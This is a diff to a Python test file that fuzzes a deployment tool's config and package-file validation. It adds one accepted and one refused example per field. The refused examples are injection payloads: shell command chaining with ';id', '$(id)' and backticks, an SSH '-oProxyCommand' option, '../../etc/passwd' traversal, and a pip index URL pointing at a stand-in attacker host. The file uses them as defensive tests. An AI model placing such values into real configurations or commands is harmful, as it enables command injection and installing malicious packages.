@@ -6,7 +6,7 @@ import shlex
 
 import pytest
 import yaml
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from deploy.config import CONFIG_FILES, is_course_file, load_course
@@ -363,27 +363,84 @@ def assert_one_safe_word(value: str, allowed_metacharacters: set[str]) -> None:
     assert not (set(value) & SHELL_METACHARACTERS) - allowed_metacharacters, value
 
 
+# For each field, a value it must accept and one it must refuse. Each property runs both
+# first and asserts their outcomes, so the accept path (one safe word) and the refuse
+# path (errors naming the file) both ran: a field whose validation refused everything
+# would otherwise pass "refused or one safe word" on refusals alone.
+CONFIG_EXAMPLES: dict[str, tuple[str, str]] = {
+    "server.name": ("physics-hub", "physics hub"),
+    "server.region": ("nyc3", "nyc3;id"),
+    "server.size": ("s-2vcpu-4gb", "s-2vcpu-4gb$(id)"),
+    "server.image": ("ubuntu-24-04-x64", "ubuntu|id"),
+    "server.host": ("hub.example.edu", "hub.example.edu -oProxyCommand=id"),
+    "server.user": ("ubuntu", "ubuntu\nid"),
+    "hub.hostname": ("hub.example.org", "hub.example.org;id"),
+    "hub.letsencrypt_email": ("teacher@example.org", "teacher@example.org`id`"),
+    "hub.admins": ("bob", "bob;id"),
+    "hub.limits.memory": ("512M", "512M;id"),
+    "hub.tljh_version": ("2.0.1", "2.0.1 && id"),
+    "content.branch": ("course-2025", "-x"),
+    "content.open": ("StartHere.ipynb", "../../etc/passwd"),
+}
+PACKAGE_EXAMPLES: dict[str, tuple[str, str]] = {
+    "apt.txt": ("graphviz", "graphviz;id"),
+    "requirements.txt": ("numpy>=1.26", "numpy`id`"),
+    "environment.yml conda": ("numpy=1.26", "numpy && id"),
+    "environment.yml pip": ("nbgitpuller==1.2.1", "--index-url https://evil.example/simple"),
+    "environment.yml channels": ("conda-forge", "conda-forge --override-channels"),
+}
+
+
+def test_every_fuzzed_field_has_an_accepted_and_a_refused_example():
+    assert set(CONFIG_EXAMPLES) == set(FIELDS)
+    assert set(PACKAGE_EXAMPLES) == set(PACKAGE_FIELDS)
+
+
+def assert_both_paths_ran(outcomes: dict[str, list[str] | None], examples: tuple[str, str]):
+    accepted, refused = examples
+    assert outcomes[accepted] is not None and accepted in outcomes[accepted], outcomes[accepted]
+    assert outcomes[refused] is None, outcomes[refused]
+
+
 @pytest.mark.parametrize("field", sorted(FIELDS))
-@settings(max_examples=150, deadline=None)
-@given(value=field_text)
-def test_any_text_in_a_config_field_is_refused_or_one_safe_word(field, value):
+def test_any_text_in_a_config_field_is_refused_or_one_safe_word(field):
     make, read = FIELDS[field]
-    content = yaml.safe_dump(make(value), allow_unicode=True).encode("utf-8", "surrogatepass")
-    values = accepted_or_refused({CONFIG_PATH: content}, read)
-    for accepted in values or []:
-        assert_one_safe_word(accepted, set())
+    accepted, refused = CONFIG_EXAMPLES[field]
+    outcomes: dict[str, list[str] | None] = {}
+
+    @settings(max_examples=150, deadline=None)
+    @example(value=accepted)
+    @example(value=refused)
+    @given(value=field_text)
+    def check(value):
+        content = yaml.safe_dump(make(value), allow_unicode=True).encode("utf-8", "surrogatepass")
+        values = outcomes[value] = accepted_or_refused({CONFIG_PATH: content}, read)
+        for kept in values or []:
+            assert_one_safe_word(kept, set())
+
+    check()
+    assert_both_paths_ran(outcomes, CONFIG_EXAMPLES[field])
 
 
 @pytest.mark.parametrize("field", sorted(PACKAGE_FIELDS))
-@settings(max_examples=150, deadline=None)
-@given(value=field_text)
-def test_any_text_in_a_package_file_is_refused_or_one_safe_word(field, value):
+def test_any_text_in_a_package_file_is_refused_or_one_safe_word(field):
     make, read, grammar = PACKAGE_FIELDS[field]
-    ((path, shape),) = make(value).items()
-    if path.endswith(".txt"):
-        content = value.encode("utf-8", "surrogatepass")
-    else:
-        content = yaml.safe_dump(shape, allow_unicode=True).encode("utf-8", "surrogatepass")
-    values = accepted_or_refused({path: content}, read)
-    for accepted in values or []:
-        assert_one_safe_word(accepted, grammar)
+    accepted, refused = PACKAGE_EXAMPLES[field]
+    outcomes: dict[str, list[str] | None] = {}
+
+    @settings(max_examples=150, deadline=None)
+    @example(value=accepted)
+    @example(value=refused)
+    @given(value=field_text)
+    def check(value):
+        ((path, shape),) = make(value).items()
+        if path.endswith(".txt"):
+            content = value.encode("utf-8", "surrogatepass")
+        else:
+            content = yaml.safe_dump(shape, allow_unicode=True).encode("utf-8", "surrogatepass")
+        values = outcomes[value] = accepted_or_refused({path: content}, read)
+        for kept in values or []:
+            assert_one_safe_word(kept, grammar)
+
+    check()
+    assert_both_paths_ran(outcomes, PACKAGE_EXAMPLES[field])
